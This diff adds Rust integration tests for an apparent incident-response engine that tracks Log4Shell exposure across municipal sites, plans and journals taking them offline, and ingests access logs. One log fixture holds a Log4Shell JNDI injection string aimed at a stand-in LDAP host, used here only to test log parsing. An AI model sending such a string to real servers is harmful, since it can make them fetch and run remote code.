@@ -1,0 +1,401 @@
+//! A whole register in a folder: ingest, ask, plan, execute, fence, replay.
+
+use std::cell::Cell;
+use std::io::Cursor;
+use std::sync::Arc;
+
+use relight_engine::edge::Target;
+use relight_engine::incident::{Compromise, Entry, EvidenceKind, Ledger, Phase};
+use relight_engine::matching::Question;
+use relight_engine::plan::{Action, PLAN_AGE_MAX_S, Plan, PlanAsk, PlanStale};
+use relight_engine::store::{SiteRow, Store};
+use relight_engine::watch::Feed;
+use relight_engine::{
+    Engine, EngineError, EngineErrorKind, EngineOptions, FunctionalTest, INVENTORY_TTL_S,
+    Inventory, LogReport, REDARK_AUTO_MAX, edges,
+};
+use relight_model::{
+    Basis, Component, Criticality, Digest, Epoch, Flaw, FlawCode, GateKey, Light, Purl, Sbom,
+    Scope, UnknownReason, Verdict,
+};
+use tempfile::TempDir;
+
+use crate::edge::key;
+
+const LOG4SHELL: &str = "CVE-2021-44228";
+
+/// Fixed in 2.17.0 only: 2.16.0 is clear of Log4Shell and has this one.
+const RECURSION: &str = "CVE-2021-45105";
+
+thread_local! {
+    /// Each test runs on its own thread and so has its own time.
+    static NOW_MS: Cell<i64> = const { Cell::new(1_639_137_600_000) };
+}
+
+fn clock() -> i64 {
+    NOW_MS.get()
+}
+
+fn pass(seconds: i64) {
+    NOW_MS.set(NOW_MS.get() + seconds * 1_000);
+}
+
+/// A register and the folder that it lives in.
+struct Town {
+    engine: Engine,
+    folder: TempDir,
+}
+
+impl Town {
+    /// A register with `count` sites on one edge and nothing known about them.
+    fn new(count: usize) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let store = Store::open(folder.path()).unwrap();
+        let rows: Vec<SiteRow> = (0..count).map(|number| row(number, &name(number))).collect();
+        let plan = store.plan_import(&rows).unwrap();
+        store.apply_import(&plan, clock() / 1_000, "test").unwrap();
+        let target = Target {
+            name: "east".into(),
+            kind: "builtin".into(),
+            gate: folder.path().join("gate"),
+            listeners: Vec::new(),
+            verify: None,
+            settings: [].into(),
+        };
+        store.put_edge(&edges::to_row(&target).unwrap(), 0, "test").unwrap();
+        Self { engine: open(&Arc::new(store), "first").unwrap(), folder }
+    }
+
+    fn ingest(&self, site: usize, sbom: Sbom) {
+        let observed_at = self.engine.now();
+        let inventory = Inventory { site: key(&name(site)), sbom, observed_at };
+        self.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap();
+    }
+
+    fn incident(&self, id: &str) -> String {
+        self.engine.open_incident("A. Tremblay", id, "demo").unwrap()
+    }
+
+    fn plan(&self, action: Action, sites: &[usize]) -> Plan {
+        let ask = PlanAsk {
+            incident: LOG4SHELL.into(),
+            action,
+            reason: "as a precaution".into(),
+            advisory_revision: Digest::default(),
+            proposer: "A. Tremblay".into(),
+            created: self.engine.now(),
+        };
+        let sites: Vec<GateKey> = sites.iter().map(|site| key(&name(*site))).collect();
+        self.engine.plan(ask, &sites).unwrap()
+    }
+
+    fn darken(&self, sites: &[usize]) {
+        let plan = self.plan(Action::Dark, sites);
+        self.engine.execute(&plan, "A. Tremblay").unwrap();
+    }
+
+    fn log(&self, bytes: Vec<u8>) -> Result<LogReport, EngineError> {
+        let org = self.engine.organisations().unwrap()[0].id;
+        self.engine.ingest_log(&Feed { org, ..Feed::default() }, Cursor::new(bytes))
+    }
+
+    fn phase(&self, id: &str, site: usize) -> Option<Phase> {
+        self.engine.phase(id, &key(&name(site)))
+    }
+
+    fn ledger(&self) -> Ledger {
+        self.engine.with_ledger(Ledger::clone)
+    }
+
+    /// The kinds of the journal, in order.
+    fn journal(&self) -> Vec<String> {
+        let records = self.engine.store().journal(1).unwrap();
+        records.into_iter().map(|record| record.kind).collect()
+    }
+
+    fn refuse(&self, plan: &Plan) -> EngineErrorKind {
+        let before = self.journal();
+        let refused = self.engine.execute(plan, "A. Tremblay").unwrap_err();
+        assert_eq!(self.journal(), before, "a stale plan was journalled");
+        refused.kind
+    }
+}
+
+fn open(store: &Arc<Store>, holder: &str) -> Result<Engine, EngineError> {
+    let options = EngineOptions { holder: holder.into(), clock, inventory_ttl_s: INVENTORY_TTL_S };
+    Engine::open(Arc::clone(store), options)
+}
+
+fn name(number: usize) -> String {
+    format!("site-{number:04}")
+}
+
+fn row(number: usize, slug: &str) -> SiteRow {
+    SiteRow {
+        line: number + 1,
+        slug: key(slug),
+        name_fr: format!("Service {number}"),
+        name_en: format!("Service {number}"),
+        origin: format!("https://{slug}.example"),
+        organisation: "Ville de Clairbourg".into(),
+        sector: "municipal".into(),
+        criticality: Criticality::Essential,
+        edge: "east".into(),
+        public: true,
+    }
+}
+
+/// A complete inventory of one artifact with this version of log4j-core in it.
+fn log4j(version: &str) -> Sbom {
+    let evidence = format!("app.war!/WEB-INF/lib/log4j-core-{version}.jar");
+    let purl = Purl::new("maven", "org.apache.logging.log4j", "log4j-core", version);
+    let (basis, scope) = (Basis::PomProperties, Scope::Installed);
+    let artifact = version.bytes().fold(1_u8, |sum, byte| sum.wrapping_mul(31).wrapping_add(byte));
+    Sbom {
+        components: vec![Component { purl, evidence, basis, scope, removed: Vec::new() }],
+        flaws: Vec::new(),
+        artifact: Some(Digest([artifact; 32])),
+        tool: "relight test".into(),
+    }
+}
+
+/// The same, with something in it that could not be read.
+fn unreadable() -> Sbom {
+    let flaw = Flaw { code: FlawCode::Encrypted, evidence: "secret.zip".into(), bytes: 9 };
+    Sbom { components: Vec::new(), flaws: vec![flaw], ..log4j("0") }
+}
+
+fn proved(site: usize, light: Light) -> (String, Entry) {
+    let (sites, edge) = (vec![key(&name(site))], "east".to_owned());
+    (LOG4SHELL.into(), Entry::Proved { sites, light, edge, epoch: Epoch::default() })
+}
+
+#[test]
+fn every_site_answers_affected_clear_or_unknown_and_says_why() {
+    let town = Town::new(5);
+    town.ingest(0, log4j("2.14.1"));
+    town.ingest(1, log4j("2.17.1"));
+    town.ingest(2, unreadable());
+    town.ingest(3, log4j("2.17.1"));
+    let ask = || town.engine.ask(&Question::parse(LOG4SHELL).unwrap());
+    let count = |verdict| ask().count(verdict);
+    let counts = [Verdict::Affected, Verdict::Clear, Verdict::Unknown].map(count);
+    assert_eq!(counts, [1, 2, 2]);
+    let reasons = ask().first_reasons();
+    assert_eq!(reasons.get(&UnknownReason::PartialEncrypted), Some(&1));
+    assert_eq!(reasons.get(&UnknownReason::NeverInventoried), Some(&1));
+    pass(INVENTORY_TTL_S + 1);
+    assert_eq!((count(Verdict::Affected), count(Verdict::Clear)), (1, 0));
+    assert_eq!(ask().first_reasons().get(&UnknownReason::Stale), Some(&3));
+}
+
+#[test]
+fn a_dry_run_changes_nothing_and_its_hash_is_what_is_executed() {
+    let town = Town::new(3);
+    town.ingest(0, log4j("2.14.1"));
+    town.incident(LOG4SHELL);
+    let before = town.journal();
+    let plan = town.plan(Action::Dark, &[1, 0]);
+    let again = town.plan(Action::Dark, &[0, 1]);
+    assert_eq!(plan.hash().unwrap(), again.hash().unwrap());
+    assert_eq!(plan.edges, ["east"]);
+    assert_eq!(plan.sites[0].verdict, "affected");
+    assert_eq!((town.journal(), town.phase(LOG4SHELL, 0)), (before, None));
+    pass(60);
+    town.engine.execute(&plan, "A. Tremblay").unwrap();
+    assert_eq!(town.journal().last().map(String::as_str), Some("dark-ordered"));
+    let body = &town.engine.store().journal(1).unwrap().last().unwrap().body.clone();
+    let Entry::DarkOrdered { plan: hash, sites, .. } = Entry::from_body(body).unwrap() else {
+        panic!("{body}");
+    };
+    assert_eq!((hash, sites), (plan.hash().unwrap(), plan.keys()));
+    assert_eq!(town.phase(LOG4SHELL, 2), None);
+}
+
+#[test]
+fn a_plan_of_another_world_names_what_changed() {
+    let town = Town::new(2);
+    town.ingest(0, log4j("2.17.1"));
+    town.incident(LOG4SHELL);
+    let stale = |field| EngineErrorKind::Stale(PlanStale::Differs(field));
+    let plan = town.plan(Action::Dark, &[0]);
+    assert_eq!(
+        town.refuse(&Plan { proposer: "B".into(), edges: vec![], ..plan.clone() }),
+        stale("edges")
+    );
+    let plan = town.plan(Action::Dark, &[0]);
+    let revised = Entry::Revised { revision: Digest([9; 32]) };
+    town.engine.record("feed", LOG4SHELL, revised).unwrap();
+    assert_eq!(town.refuse(&plan), stale("advisory_revision"));
+    let plan = town.plan(Action::Dark, &[0]);
+    pass(PLAN_AGE_MAX_S);
+    assert_eq!(town.refuse(&plan), EngineErrorKind::Stale(PlanStale::Expired));
+    let plan = town.plan(Action::Dark, &[0, 1]);
+    town.darken(&[0]);
+    assert_eq!(town.refuse(&plan), stale("sites"));
+    assert_eq!(town.plan(Action::Dark, &[0]).skipped[0].reason, "already-so");
+}
+
+#[test]
+fn a_journal_replays_to_the_same_ledger_and_verifies() {
+    let town = Town::new(4);
+    town.incident(LOG4SHELL);
+    town.darken(&[0, 1, 2]);
+    town.ingest(0, log4j("2.14.1"));
+    town.ingest(1, log4j("2.17.1"));
+    town.engine.append("relight", vec![proved(1, Light::Dark), proved(3, Light::Dark)]).unwrap();
+    assert_eq!(town.engine.relight_ready().unwrap(), 1);
+    town.engine.append("relight", vec![proved(1, Light::Lit)]).unwrap();
+    let phases = [0, 1, 2, 3].map(|site| town.phase(LOG4SHELL, site));
+    let dark = Some(Phase::DarkRequested);
+    assert_eq!(phases, [Some(Phase::Affected), Some(Phase::RelitProven), dark, None]);
+    let verified = town.engine.store().verify_journal().unwrap().unwrap();
+    assert_eq!(verified.entries, town.journal().len() as u64);
+    let (ledger, path) = (town.ledger(), town.folder.path().to_owned());
+    let store = Arc::new(Store::open(&path).unwrap());
+    assert_eq!(open(&store, "second").unwrap().with_ledger(Ledger::clone), ledger);
+}
+
+#[test]
+fn of_two_engines_on_one_register_the_older_is_fenced() {
+    let town = Town::new(1);
+    town.incident(LOG4SHELL);
+    let newer = open(town.engine.store(), "second").unwrap();
+    let before = (town.ledger(), town.journal());
+    let order = Entry::DarkOrdered {
+        plan: Digest::default(),
+        sites: vec![key(&name(0))],
+        reason: "as a precaution".into(),
+    };
+    let fenced = town.engine.record("A. Tremblay", LOG4SHELL, order.clone()).unwrap_err();
+    assert_eq!(fenced.kind, EngineErrorKind::Fenced);
+    assert_eq!((town.ledger(), town.journal()), before);
+    newer.record("A. Tremblay", LOG4SHELL, order).unwrap();
+}
+
+#[test]
+fn a_refused_entry_is_journalled_as_refused_and_changes_nothing() {
+    let town = Town::new(1);
+    town.incident(LOG4SHELL);
+    let before = town.ledger();
+    let entry = Entry::VerificationStarted { site: key(&name(0)) };
+    let refused = town.engine.record("A. Tremblay", LOG4SHELL, entry).unwrap_err();
+    assert!(matches!(refused.kind, EngineErrorKind::Rejected(_)), "{refused}");
+    assert_eq!((town.journal(), town.ledger()), (vec!["opened".into(), "refused".into()], before));
+    assert_eq!(
+        open(town.engine.store(), "second").unwrap().with_ledger(Ledger::clone),
+        town.ledger()
+    );
+}
+
+#[test]
+fn bad_news_about_too_many_lit_sites_waits_for_a_person() {
+    let town = Town::new(REDARK_AUTO_MAX + 1);
+    town.ingest(0, log4j("2.17.1"));
+    town.incident(LOG4SHELL);
+    let attach = |sites: std::ops::Range<usize>| {
+        let sites: Vec<GateKey> = sites.map(|site| key(&name(site))).collect();
+        town.engine.attach_evidence("scanner", LOG4SHELL, &sites, EvidenceKind::Scan).unwrap()
+    };
+    assert_eq!(attach(0..REDARK_AUTO_MAX + 1), 0, "one of them is clear");
+    let town = Town::new(REDARK_AUTO_MAX + 1);
+    town.incident(LOG4SHELL);
+    let sites: Vec<GateKey> = (0..=REDARK_AUTO_MAX).map(|site| key(&name(site))).collect();
+    let attach = |sites: &[GateKey]| {
+        town.engine.attach_evidence("scanner", LOG4SHELL, sites, EvidenceKind::Scan).unwrap()
+    };
+    assert_eq!(attach(&sites), REDARK_AUTO_MAX + 1);
+    assert_eq!(town.journal(), ["opened"]);
+    assert_eq!(attach(&sites[1..]), 0);
+    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::Unknown));
+}
+
+#[test]
+fn a_site_of_two_incidents_comes_back_when_both_are_clear() {
+    let town = Town::new(1);
+    for id in [LOG4SHELL, RECURSION] {
+        town.incident(id);
+        let order = Entry::DarkOrdered {
+            plan: Digest::default(),
+            sites: vec![key(&name(0))],
+            reason: "as a precaution".into(),
+        };
+        town.engine.record("A. Tremblay", id, order).unwrap();
+    }
+    town.ingest(0, log4j("2.17.1"));
+    assert_eq!(town.engine.relight_ready().unwrap(), 2);
+    assert_eq!(town.ledger().wants(&key(&name(0))), Light::Lit);
+}
+
+#[test]
+fn a_deployment_voids_evidence_and_a_fix_needs_its_functional_test() {
+    let town = Town::new(2);
+    town.incident(LOG4SHELL);
+    town.darken(&[0, 1]);
+    town.ingest(0, log4j("2.17.1"));
+    town.ingest(1, log4j("2.14.1"));
+    pass(60);
+    for site in [0, 1] {
+        town.engine.report_deployed("deployer", &key(&name(site)), Digest([7; 32])).unwrap();
+    }
+    assert_eq!(town.phase(LOG4SHELL, 0), Some(Phase::Unknown));
+    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::FixDeployed));
+    let sbom = Sbom { artifact: Some(Digest([7; 32])), ..log4j("2.17.1") };
+    let inventory = Inventory { site: key(&name(1)), sbom, observed_at: town.engine.now() };
+    let test = FunctionalTest { uri: "/".into(), status: 200, text: String::new() };
+    let passed = town.engine.verify("tester", LOG4SHELL, &inventory, &test, Compromise::NoSigns);
+    assert!(!passed.unwrap(), "an edge without a verification path passes nothing");
+    assert_eq!(town.phase(LOG4SHELL, 1), Some(Phase::Affected));
+    assert_eq!(town.engine.relight_ready().unwrap(), 0);
+}
+
+#[test]
+fn what_nobody_registered_is_not_found() {
+    let town = Town::new(1);
+    let missing = town.engine.open_incident("A. Tremblay", "CVE-1999-0001", "demo").unwrap_err();
+    assert_eq!(missing.kind, EngineErrorKind::NotFound);
+    let (site, observed_at) = (key("nowhere"), town.engine.now());
+    let inventory = Inventory { site, sbom: log4j("2.14.1"), observed_at };
+    let missing = town.engine.ingest("scanner", &[inventory], EvidenceKind::Scan).unwrap_err();
+    assert_eq!(missing.kind, EngineErrorKind::NotFound);
+    let missing = town.engine.relight("A. Tremblay", "CVE-1999-0001", &[]).unwrap_err();
+    assert_eq!(missing.kind, EngineErrorKind::NotFound);
+}
+
+const LINE: &str = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
+                    HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";
+
+#[test]
+fn the_same_log_twice_changes_nothing_however_it_is_packed() {
+    let town = Town::new(1);
+    let plain = LINE.repeat(3).into_bytes();
+    let gzip = {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        std::io::Write::write_all(&mut encoder, &plain).unwrap();
+        encoder.finish().unwrap()
+    };
+    let zstd = zstd::encode_all(plain.as_slice(), 1).unwrap();
+    let read = |bytes: Vec<u8>| town.log(bytes).unwrap();
+    let first = read(plain.clone());
+    assert_eq!((first.lines, first.events, first.known), (3, 3, 0));
+    let windows = town.engine.store().windows().unwrap();
+    assert_eq!(windows.len(), 1);
+    for again in [plain, gzip, zstd] {
+        let report = read(again);
+        assert_eq!((report.lines, report.segments, report.known), (3, 1, 1));
+        assert_eq!(town.engine.store().windows().unwrap(), windows);
+    }
+}
+
+#[test]
+fn lines_that_are_no_events_are_counted_with_the_number_of_the_first() {
+    let town = Town::new(1);
+    let mut log = LINE.as_bytes().to_vec();
+    log.extend(b"\xff\xfe\x00\x01 binary\n\x80\x81\n");
+    log.extend(LINE.as_bytes());
+    let report = town.log(log).unwrap();
+    assert_eq!((report.lines, report.events), (4, 2));
+    assert_eq!(report.refused.values().map(|(count, _)| count).sum::<u64>(), 2);
+    assert_eq!(report.refused.values().map(|(_, first)| *first).min(), Some(2));
+    assert!(town.log(b"\x1f\x8b\x08\x00".to_vec()).is_err(), "half a gzip header");
+}
